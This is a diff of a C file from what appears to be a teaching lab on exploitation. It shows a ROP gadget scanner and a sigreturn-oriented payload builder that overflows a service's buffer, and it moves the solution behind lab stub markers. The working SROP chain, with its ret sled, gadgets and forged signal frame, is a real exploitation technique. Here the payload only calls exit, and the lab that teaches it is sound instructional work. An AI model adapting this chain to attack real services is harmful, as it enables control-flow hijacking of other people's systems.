@@ -1,7 +1,35 @@
 /* The payload builder: gadgets found in a page's bytes, and the requests made of them (docs/attack.md). */
 #include "attack.h"
 
-/* How many words a run of pops at p takes (5b..5f and 58..5d pop one register; 41 5x pops r8..r15), up to a ret; -1 if not. */
+#define SLED_WORDS	16	/* rets: wherever the return address is among them, the chain follows */
+#define NR_EXIT		60
+
+/*
+ * find_gadgets: scan bytes (a copy of the code at base in the victim) for
+ * the three pieces of the chain: a ret, "xor %eax,%eax; ret", and a
+ * syscall followed only by pops and a ret (the fewest pops wins; a pop is
+ * 58..5f, or 41 58..41 5f for r8..r15). An attacker's tool would do the
+ * same to the page's bytes; 0 when all three are there.
+ *
+ * build_srop_exit: the request of fixed-syscall and vdso-*: a length,
+ * then the body that overflows the service's buffer, then 15 more bytes.
+ *
+ *	SLED_WORDS x ret	the saved return address is one of these
+ *	zero_rax		xor %eax,%eax; ret: rax = 0, read's number
+ *	syscall			read(fd, buf, len) still in rdi, rsi, rdx from the
+ *				service's own read: it reads the 15 bytes at the end,
+ *				so rax = 15, rt_sigreturn's number; then its pops
+ *	pops x filler
+ *	syscall			rt_sigreturn: the registers come from the frame below
+ *	struct ucontext64	rip = syscall, rax = exit, rdi = CHOSEN_STATUS
+ *	(end of body) 15 bytes
+ *
+ * Its addresses come from g only: they differ between builds, and the
+ * vDSO's move every run. The length, 0 if the request does not fit in size.
+ */
+
+/* LAB attack: BEGIN */
+/* How many words a run of pops at p takes, up to a ret; -1 if not pops then a ret. */
 static int pops_then_ret(const unsigned char *p, const unsigned char *end)
 {
 	int pops = 0;
@@ -20,12 +48,6 @@ static int pops_then_ret(const unsigned char *p, const unsigned char *end)
 	return -1;
 }
 
-/*
- * Scan bytes (a copy of the code at base in the victim) for the three
- * pieces of the chain: a lone ret, "xor %eax,%eax; ret", and a syscall
- * followed only by pops and a ret (the fewest pops wins). An attacker's
- * tool would do the same to the page's bytes; 0 when all three are there.
- */
 int find_gadgets(const unsigned char *bytes, size_t len, unsigned long base, struct gadgets *g)
 {
 	size_t i;
@@ -47,47 +69,14 @@ int find_gadgets(const unsigned char *bytes, size_t len, unsigned long base, str
 	return g->ret && g->zero_rax && g->syscall ? 0 : -1;
 }
 
-/* Linux's struct ucontext with its sigcontext, what rt_sigreturn reads at rsp (asm/sigcontext.h). */
-struct sigcontext64 {
-	unsigned long r8, r9, r10, r11, r12, r13, r14, r15;
-	unsigned long rdi, rsi, rbp, rbx, rdx, rax, rcx, rsp, rip, eflags;
-	unsigned short cs, gs, fs, ss;
-	unsigned long err, trapno, oldmask, cr2, fpstate, reserved[8];
-};
-
-struct ucontext64 {
-	unsigned long uc_flags, uc_link;
-	unsigned long ss_sp, ss_flags, ss_size;
-	struct sigcontext64 mc;
-	unsigned long uc_sigmask;
-};
-
-#define SLED_WORDS	16	/* rets: wherever the return address is among them, the chain follows */
-#define NR_EXIT		60
-
 static unsigned char *put_word(unsigned char *p, unsigned long w)
 {
 	memcpy(p, &w, 8);
 	return p + 8;
 }
 
-/*
- * The request of fixed-syscall and vdso-*: a length, then the body that
- * overflows the service's buffer, then 15 more bytes.
- *
- *	SLED_WORDS x ret	the saved return address is one of these
- *	zero_rax		xor %eax,%eax; ret: rax = 0, read's number
- *	syscall			read(fd, buf, len) still in rdi, rsi, rdx from the
- *				service's own read: it reads the 15 bytes at the end,
- *				so rax = 15, rt_sigreturn's number; then its pops
- *	pops x filler
- *	syscall			rt_sigreturn: the registers come from the frame below
- *	struct ucontext64	rip = syscall, rax = exit, rdi = CHOSEN_STATUS
- *	(end of body) 15 bytes
- */
 size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
 {
-	/* LAB attack: BEGIN */
 	struct ucontext64 uc = { 0 };
 	unsigned char *p = req + 4;
 	uint32_t body;
@@ -112,12 +101,46 @@ size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
 	memcpy(req, &body, 4);
 	memcpy(p, "fifteen bytes!\n", NR_RT_SIGRETURN);
 	return p + NR_RT_SIGRETURN - req;
-	/* LAB attack: STUB
-	printf("LAB TODO: user/attack/attack_payload.c: build_srop_exit() is yours to write "
-	       "(docs/labs/07-attack.md)\n");
-	return 0;
-	   LAB attack: END */
 }
+
+/* LAB attack: STUB
+static void say_todo(void)
+{
+	static int said;
+
+	if (!said++)
+		printf("LAB TODO: user/attack/attack_payload.c: find_gadgets() and build_srop_exit() "
+		       "are yours to write (docs/labs/07-attack.md)\n");
+}
+
+int find_gadgets(const unsigned char *bytes, size_t len, unsigned long base, struct gadgets *g)
+{
+	say_todo();
+	// As the comment at the top says, scan bytes for:
+	//  g->ret       a c3 (ret);
+	//  g->zero_rax  31 c0 c3 (xor %eax,%eax; ret);
+	//  g->syscall   0f 05 (syscall) followed only by pops (58..5f, or
+	//               41 58..41 5f for r8..r15) and then a c3: the one with
+	//               the fewest pops wins, their count in g->syscall_pops.
+	// Each as its address in the victim (base + offset); 0 when all three
+	// are there, else -1.
+	(void)bytes, (void)len, (void)base;
+	*g = (struct gadgets){ 0 };
+	return -1;
+}
+
+size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
+{
+	say_todo();
+	// The request laid out as the comment at the top says: the 4-byte
+	// body length, the body (the sled, the chain, a filler word
+	// per pop, a struct ucontext64 with the registers exit needs), then
+	// NR_RT_SIGRETURN bytes for the chain's own read. Return the request's
+	// length, 0 if it does not fit in size.
+	(void)req, (void)size, (void)g;
+	return 0;
+}
+   LAB attack: END */
 
 /* The request of fixed-ret: body_len bytes, every word of them the address of a vsyscall entry. */
 size_t build_ret_sled(unsigned char *req, size_t size, unsigned long entry, size_t body_len)
